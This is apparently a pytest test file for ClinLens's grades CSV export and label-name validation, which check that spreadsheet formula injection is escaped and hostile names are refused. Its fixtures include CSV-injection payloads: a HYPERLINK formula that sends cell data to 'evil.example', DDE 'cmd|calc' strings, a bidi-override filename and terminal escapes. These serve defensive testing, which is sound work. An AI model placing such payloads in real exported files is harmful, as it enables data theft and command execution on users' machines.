"""CSV injection and hostile label names.

Exported grades CSV: a text cell that a spreadsheet would run as a formula is written
with a leading ``'`` that ClinLens' own import removes again, so the round trip is exact
and the file, opened anywhere, has no cell starting with = + - @ tab or CR. Label names
from outside (label sets, classes.txt, data.yaml, class maps) are refused in one line
when they hold line breaks or control characters, are too long, or start like a formula.
"""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from pathlib import Path

import numpy as np
import pytest
from PIL import Image

from core.annotations import builtin_label_set, builtin_scale
from core.annotations.labels import (
    MAX_LABEL_LENGTH,
    LabelNameError,
    load_label_set_yaml,
    validate_label_name,
)
from core.annotations.scales import scale_from_mapping
from core.errors import FormatError
from core.formats.grades_csv import (
    GradeRow,
    escape_cell,
    grades_csv_text,
    read_grades_csv,
    unescape_cell,
)
from core.formats.remap import make_remap
from core.formats.yolo import read_class_names

ROOT = next(p for p in Path(__file__).resolve().parents if (p / "main.py").is_file())
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
MAX_MESSAGE = 300

INJECTIONS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "=cmd|' /C calc'!A0",
    "+SUM(A1:A9)",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "scan\r=1+1",  # a bare CR mid-cell would start a new row with a live formula
    "scan\n@SUM(A1)",
    "'already quoted",
    "''two quotes",
    "'",
    "=",
    "-",
    'plain name, with a comma and a "quote"',
]


def text_cells(csv_text: str) -> list[tuple[str, str]]:
    """(column, cell) of every cell as a spreadsheet splits the file."""
    rows = list(csv.reader(io.StringIO(csv_text, newline="")))
    header = rows[0]
    return [(header[i], cell) for row in rows[1:] for i, cell in enumerate(row)]


# --- grades CSV ---------------------------------------------------------------------------
@pytest.mark.parametrize("cell", INJECTIONS)
def test_injection_cells_round_trip_exactly_and_are_neutralised(tmp_path: Path, cell: str) -> None:
    scale = scale_from_mapping(cell, {"values": [{"value": 0}, {"value": 1}]}, "test")
    rows = [GradeRow(cell, cell, 1.0, cell, "human"), GradeRow("b.png", cell, 0.0, None, "model")]
    text = grades_csv_text(rows)
    for column, value in text_cells(text):
        if column == "value":
            float(value)  # a number, as written
        else:
            assert not value.startswith(TRIGGERS), f"{column} cell {value!r} is a formula"
    path = tmp_path / "grades.csv"
    path.write_text(text, encoding="utf-8", newline="")
    back = read_grades_csv(path, {cell: scale})
    assert [(r.image, r.scale, r.value, r.author, r.source) for r in back] == [
        (r.image, r.scale, r.value, r.author, r.source)
        for r in sorted(rows, key=lambda r: (r.image, r.scale, r.source, r.author or ""))
    ]
    assert grades_csv_text(back) == text


def test_the_escape_rule_is_a_leading_quote_and_quotes_double() -> None:
    assert escape_cell("=1+1") == "'=1+1"
    assert escape_cell("'x") == "''x"
    assert escape_cell("plain") == "plain"
    for cell in INJECTIONS:
        assert unescape_cell(escape_cell(cell)) == cell


def test_a_negative_grade_stays_a_number(tmp_path: Path) -> None:
    delta = scale_from_mapping("delta", {"range": {"min": -2, "max": 2, "step": 1}}, "test")
    text = grades_csv_text([GradeRow("a.png", "delta", -1.0, "-dr", "human")])
    assert text.splitlines()[1] == "a.png,delta,-1,'-dr,human"
    path = tmp_path / "g.csv"
    path.write_text(text, encoding="utf-8")
    (row,) = read_grades_csv(path, {"delta": delta})
    assert (row.value, row.author) == (-1.0, "-dr")


def test_a_spreadsheet_quoted_value_cell_still_reads(tmp_path: Path) -> None:
    path = tmp_path / "g.csv"
    path.write_text("image,scale,value\na.png,acne4,'2\n", encoding="utf-8")
    (row,) = read_grades_csv(path, {"acne4": builtin_scale("acne4")})
    assert row.value == 2.0


@pytest.mark.parametrize(
    ("text", "needle"),
    [
        ("image,scale,value\na.png," + "s" * 1_000_000 + ",1\n", "malformed CSV"),
        ("image,scale,value\na.png,acne4," + "9" * 100_000 + "\n", "is not a grade of"),
        ("image,scale,value\na.png,acne4,x" + "y" * 100_000 + "\n", "is not a number"),
        ("image,scale,value,source\na.png,acne4,1," + "r" * 100_000 + "\n", "source '"),
        ("image,scale,value\na.png,\x1b[2J\x1b[31m=evil,1\n", "is not used by this project"),
    ],
)
def test_hostile_grades_csv_errors_are_one_short_line(
    tmp_path: Path, text: str, needle: str
) -> None:
    path = tmp_path / "g.csv"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(FormatError) as err:
        read_grades_csv(path, {"acne4": builtin_scale("acne4")})
    message = str(err.value)
    assert needle in message and "\x1b" not in message
    assert "\n" not in message and len(message) <= MAX_MESSAGE


# --- label names --------------------------------------------------------------------------
REFUSED_NAMES = {
    "newline": ("cat\ndog", "line break"),
    "carriage-return": ("cat\rdog", "line break"),
    "tab-inside": ("cat\tdog", "U+0009"),
    "nul": ("cat\x00", "U+0000"),
    "terminal-escape": ("\x1b[31mred", "U+001B"),
    "line-separator": ("cat\u2028dog", "line break"),
    "bidi-override": ("\u202egnp.exe", "U+202E"),
    "formula-equals": ("=HYPERLINK(1)", "starts with '='"),
    "formula-plus": ("+1", "starts with '+'"),
    "formula-minus": ("-1+1", "starts with '-'"),
    "formula-at": ("@SUM(A1)", "starts with '@'"),
    "tab-then-formula": ("\t=1+1", "starts with '='"),  # the tab is trimmed, '=' stays
    "too-long": ("x" * (MAX_LABEL_LENGTH + 1), "at most 100"),
    "a-megabyte": ("y" * 1_000_000, "1,000,000 characters"),
    "empty": ("", "needs a name"),
    "blank": ("  \t ", "needs a name"),
}


@pytest.mark.parametrize("case", list(REFUSED_NAMES))
def test_hostile_label_names_are_refused_in_one_line(case: str) -> None:
    name, needle = REFUSED_NAMES[case]
    with pytest.raises(LabelNameError) as err:
        validate_label_name(name)
    message = str(err.value)
    assert needle in message
    assert "\n" not in message and "\r" not in message and "\x1b" not in message
    assert "\u202e" not in message and "\u2028" not in message
    assert len(message) <= MAX_MESSAGE


@pytest.mark.parametrize(
    ("name", "cleaned"),
    [
        ("zipper", "zipper"),
        ("  surgical implant  ", "surgical implant"),
        ("naïve naevus", "naïve naevus"),
        ("C++", "C++"),
        ("e-mail", "e-mail"),
        ("x" * MAX_LABEL_LENGTH, "x" * MAX_LABEL_LENGTH),
        (3, "3"),  # YAML reads `- 3` as a number
    ],
)
def test_ordinary_label_names_pass_cleaned(name: object, cleaned: str) -> None:
    assert validate_label_name(name) == cleaned


@pytest.mark.parametrize(
    "entry",
    ['"=cmd|calc!A0"', '"cat\\ndog"', '"\\e[31mred"', "{name: [a, list]}", '"' + "z" * 5000 + '"'],
)
def test_a_label_set_file_with_a_hostile_name_is_refused(tmp_path: Path, entry: str) -> None:
    path = tmp_path / "labels.yaml"
    path.write_text(f"name: derm\nlabels: [naevus, {entry}]\n", encoding="utf-8")
    with pytest.raises(LabelNameError) as err:
        load_label_set_yaml(path)
    assert str(path) in str(err.value) and "\n" not in str(err.value)
    assert len(str(err.value)) <= MAX_MESSAGE


def test_classes_txt_and_data_yaml_names_are_checked(tmp_path: Path) -> None:
    (tmp_path / "classes.txt").write_text("cat\n=cmd|calc!A0\n", encoding="utf-8")
    with pytest.raises(LabelNameError, match=r"classes\.txt, line 2: class '=cmd"):
        read_class_names(tmp_path / "classes.txt")
    (tmp_path / "data.yaml").write_text('names: {0: cat, 1: "dog\\r\\nx"}\n', encoding="utf-8")
    with pytest.raises(LabelNameError, match="contains a line break"):
        read_class_names(tmp_path / "data.yaml")


def test_a_class_map_cannot_rename_a_label_into_a_formula(tmp_path: Path) -> None:
    (tmp_path / "map.yaml").write_text("zipper: '@SUM(A1)'\n", encoding="utf-8")
    with pytest.raises(LabelNameError, match=r"map\.yaml: 'zipper': label '@SUM"):
        make_remap(tmp_path / "map.yaml", builtin_label_set("xray"))


# --- through the CLI ----------------------------------------------------------------------
def run_main(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, str(ROOT / "main.py"), *args],
        capture_output=True,
        text=True,
        cwd=ROOT,
        timeout=120,
    )


def test_cli_refuses_a_label_set_with_a_formula_label_in_one_line(tmp_path: Path) -> None:
    labels = tmp_path / "labels.yaml"
    labels.write_text('labels: [naevus, "=HYPERLINK(\\"http://x\\")"]\n', encoding="utf-8")
    result = run_main("project", "create", str(tmp_path / "p"), "--labels", str(labels))
    assert result.returncode == 2, result.stderr
    (line,) = result.stderr.splitlines()
    assert line.startswith("clinlens: error: ") and "starts with '='" in line
    assert "Traceback" not in result.stderr and not (tmp_path / "p").exists()


def test_cli_export_escapes_and_import_restores_hostile_authors(tmp_path: Path) -> None:
    from core.store import Project

    with Project.create(
        tmp_path / "p", label_set=builtin_label_set("xray"), scales=[builtin_scale("acne4")]
    ):
        pass
    image = tmp_path / "@scan.png"
    Image.fromarray(np.full((8, 8), 7, np.uint8)).save(image)
    authors = {"acne4": '=HYPERLINK("http://evil")'}
    grades = tmp_path / "in.csv"
    grades.write_text(
        grades_csv_text([GradeRow("@scan.png", "acne4", 2.0, authors["acne4"], "human")]),
        encoding="utf-8",
        newline="",
    )
    result = run_main("project", "import", str(tmp_path / "p"), str(image), "--grades", str(grades))
    assert result.returncode == 0, result.stderr
    result = run_main(
        "project",
        "export",
        str(tmp_path / "p"),
        "--include-unreviewed",
        "--format",
        "voc",
        "--out",
        str(tmp_path / "o"),
        "--no-pseudonymise",
    )
    assert result.returncode == 0, result.stderr
    exported = (tmp_path / "o" / "grades.csv").read_text(encoding="utf-8")
    cells = text_cells(exported)
    assert cells, exported
    for column, value in cells:
        if column != "value":
            assert not value.startswith(TRIGGERS), f"{column} cell {value!r} is a formula"
    back = read_grades_csv(tmp_path / "o" / "grades.csv", {"acne4": builtin_scale("acne4")})
    assert [r.author for r in back] == [authors["acne4"]]
    assert back[0].image.endswith("scan.png")


@pytest.mark.parametrize("case", list(REFUSED_NAMES))
def test_a_project_refuses_adding_a_hostile_label_and_keeps_its_labels(
    tmp_path: Path, case: str
) -> None:
    # The store is where the GUI's "Add label" and `import --add-labels` land: it checks too.
    from core.store import Project

    with Project.create(
        tmp_path / "p", label_set=builtin_label_set("acne"), scales=[builtin_scale("acne4")]
    ) as project:
        before = [label.name for label in project.label_set().labels]
        name, needle = REFUSED_NAMES[case]
        with pytest.raises(FormatError) as err:
            project.add_label(name)
        assert needle in str(err.value) and "\n" not in str(err.value)
        assert [label.name for label in project.label_set().labels] == before
